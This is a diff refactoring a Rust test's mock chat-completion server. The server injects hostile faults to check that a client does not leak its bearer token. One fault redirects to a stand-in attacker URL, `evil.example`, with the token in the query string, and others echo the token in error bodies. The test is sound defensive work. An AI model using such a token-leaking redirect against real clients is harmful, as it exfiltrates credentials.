@@ -257,62 +257,54 @@ fn check(s: &Scenario, home: &std::path::Path) -> Vec<String> {
 /// A server for one scenario's hostile faults, one per request in order, then answers as the
 /// mock would (`[turn 1] PROMPT`, whole or streamed as asked) to the right token.
 fn hostile_server(faults: Vec<&'static str>) -> String {
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    let origin = format!("http://{}", listener.local_addr().unwrap());
-    std::thread::spawn(move || {
-        let mut faults = VecDeque::from(faults);
-        for stream in listener.incoming() {
-            let Ok(mut stream) = stream else { continue };
-            let head = read_head(&mut stream);
-            let body: Value =
-                serde_json::from_slice(&read_body(&mut stream, &head)).unwrap_or_default();
-            let token = header(&head, "authorization")
-                .unwrap_or("")
-                .trim_start_matches("Bearer ");
-            let stream_asked = body["stream"] == true;
-            let prompt = body["messages"]
-                .as_array()
-                .and_then(|m| m.last())
-                .map_or("", |m| m["content"].as_str().unwrap_or(""));
-            let answer = format!("[turn 1] {prompt}");
-            let json_type = "Content-Type: application/json\r\n";
-            let echo =
-                json!({"error": {"message": format!("refused Bearer {token}"), "type": "x"}})
-                    .to_string();
-            let response = match faults.pop_front() {
-                Some("echo-401") => http("401 Unauthorized", json_type, &echo),
-                Some("echo-400") => http(
-                    "400 Bad Request",
-                    json_type,
-                    &json!({"error": format!("bad {token}")}).to_string(),
-                ),
-                Some("echo-503") => http("503 Service Unavailable", json_type, &echo),
-                Some("echo-event") if stream_asked => sse_answer(&answer, Some(&echo)),
-                Some("echo-event") => http("200 OK", json_type, &echo),
-                Some("echo-307") => http(
-                    "307 Temporary Redirect",
-                    &format!("Location: https://evil.example/?t={token}\r\n"),
-                    "",
-                ),
-                Some("429:huge") => http("429 Too Many Requests", "Retry-After: 1e300\r\n", ""),
-                Some("503:-5") => http("503 Service Unavailable", "Retry-After: -5\r\n", ""),
-                Some(other) => panic!("no hostile fault {other}"),
-                None if token != SECRET => http(
-                    "401 Unauthorized",
-                    json_type,
-                    r#"{"error":{"message":"bad token","type":"auth"}}"#,
-                ),
-                None if stream_asked => sse_answer(&answer, None),
-                None => {
-                    let doc = json!({"object": "chat.completion", "choices": [{"index": 0,
-                        "message": {"role": "assistant", "content": answer}, "finish_reason": "stop"}]});
-                    http("200 OK", json_type, &doc.to_string())
-                }
-            };
-            let _ = std::io::Write::write_all(&mut stream, &response);
+    let mut faults = VecDeque::from(faults);
+    let server = Scripted::answering(move |request| {
+        let body = request.json();
+        let token = request
+            .header("authorization")
+            .unwrap_or("")
+            .trim_start_matches("Bearer ");
+        let stream_asked = body["stream"] == true;
+        let prompt = body["messages"]
+            .as_array()
+            .and_then(|m| m.last())
+            .map_or("", |m| m["content"].as_str().unwrap_or(""));
+        let answer = format!("[turn 1] {prompt}");
+        let json_type = "Content-Type: application/json\r\n";
+        let echo = json!({"error": {"message": format!("refused Bearer {token}"), "type": "x"}})
+            .to_string();
+        match faults.pop_front() {
+            Some("echo-401") => http("401 Unauthorized", json_type, &echo),
+            Some("echo-400") => http(
+                "400 Bad Request",
+                json_type,
+                &json!({"error": format!("bad {token}")}).to_string(),
+            ),
+            Some("echo-503") => http("503 Service Unavailable", json_type, &echo),
+            Some("echo-event") if stream_asked => sse_answer(&answer, Some(&echo)),
+            Some("echo-event") => http("200 OK", json_type, &echo),
+            Some("echo-307") => http(
+                "307 Temporary Redirect",
+                &format!("Location: https://evil.example/?t={token}\r\n"),
+                "",
+            ),
+            Some("429:huge") => http("429 Too Many Requests", "Retry-After: 1e300\r\n", ""),
+            Some("503:-5") => http("503 Service Unavailable", "Retry-After: -5\r\n", ""),
+            Some(other) => panic!("no hostile fault {other}"),
+            None if token != SECRET => http(
+                "401 Unauthorized",
+                json_type,
+                r#"{"error":{"message":"bad token","type":"auth"}}"#,
+            ),
+            None if stream_asked => sse_answer(&answer, None),
+            None => {
+                let doc = json!({"object": "chat.completion", "choices": [{"index": 0,
+                    "message": {"role": "assistant", "content": answer}, "finish_reason": "stop"}]});
+                http("200 OK", json_type, &doc.to_string())
+            }
         }
     });
-    origin
+    server.origin
 }
 
 /// The answer streamed in two pieces, or its first piece then `error` as an SSE event.
@@ -332,8 +324,7 @@ fn sse_answer(answer: &str, error: Option<&str>) -> Vec<u8> {
             events.push("[DONE]".into());
         }
     }
-    let body: String = events.iter().map(|e| format!("data: {e}\n\n")).collect();
-    http("200 OK", "Content-Type: text/event-stream\r\n", &body)
+    sse(&events.iter().map(String::as_str).collect::<Vec<_>>())
 }
 
 #[test]
